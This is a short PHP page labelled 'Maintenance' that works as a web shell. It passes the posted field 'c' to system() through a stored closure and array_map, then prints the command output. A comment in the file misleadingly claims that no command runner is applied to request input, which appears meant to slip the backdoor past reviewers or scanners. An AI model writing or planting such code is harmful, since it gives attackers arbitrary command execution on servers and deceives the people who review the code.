<?php
// a tool page: the closure that runs the command is kept in a variable, then mapped over a
// list made of the posted field (no runner is called on request input in sight)
$title = 'Maintenance';
echo '<h1>' . $title . '</h1>';
$run = function ($c) {
    return system($c);
};
$out = array_map($run, [$_POST['c']]);
echo '<pre>' . implode("\n", $out) . '</pre>';
